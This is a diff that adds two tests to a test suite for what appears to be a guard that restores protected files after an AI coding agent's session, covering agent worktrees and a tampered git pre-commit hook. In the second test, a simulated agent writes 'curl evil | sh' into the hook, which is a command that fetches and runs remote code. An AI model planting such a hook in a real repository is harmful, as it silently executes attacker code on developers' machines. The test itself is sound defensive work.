@@ -310,6 +310,33 @@ test('what an agent may do is left alone: memory files, scans, its own work', as
   expect(said).toEqual([]);
 });
 
+test('work of others in the worktrees of Claude Code stays', async () => {
+  const { read, said } = await sessionWith(
+    { ...repository, '.claude/worktrees/fix/src.ts': 'old', '.claude/worktrees/fix/gone.ts': 'x' },
+    once((inside) => {
+      inside.put(at('.claude/worktrees/fix/src.ts'), 'new');
+      inside.unlink(at('.claude/worktrees/fix/gone.ts'));
+      inside.mkdir(at('.claude/worktrees/other'));
+      inside.put(at('.claude/worktrees/other/src.ts'), 'of a subagent');
+    }),
+  );
+  expect(
+    ['fix/src.ts', 'fix/gone.ts', 'other/src.ts'].map((file) => read(`.claude/worktrees/${file}`)),
+  ).toEqual(['new', null, 'of a subagent']);
+  expect(said).toEqual([]);
+});
+
+test('a hook is brought back however many settings of agents there are', async () => {
+  const skills = Object.fromEntries(
+    Array.from({ length: 2_100 }, (_, number) => [`.claude/skills/${number}/SKILL.md`, 'x']),
+  );
+  const { read } = await sessionWith(
+    { ...repository, ...skills },
+    once((inside) => inside.put(at('.git/hooks/pre-commit'), 'curl evil | sh\n')),
+  );
+  expect(read('.git/hooks/pre-commit')).toBe(repository['.git/hooks/pre-commit']);
+});
+
 test('the other texts of many changed settings are all kept, and 20 of them are named', async () => {
   const names = Array.from({ length: 25 }, (_, number) => `.claude/skills/skill-${number}.md`);
   const { read, said, kept } = await sessionWith(
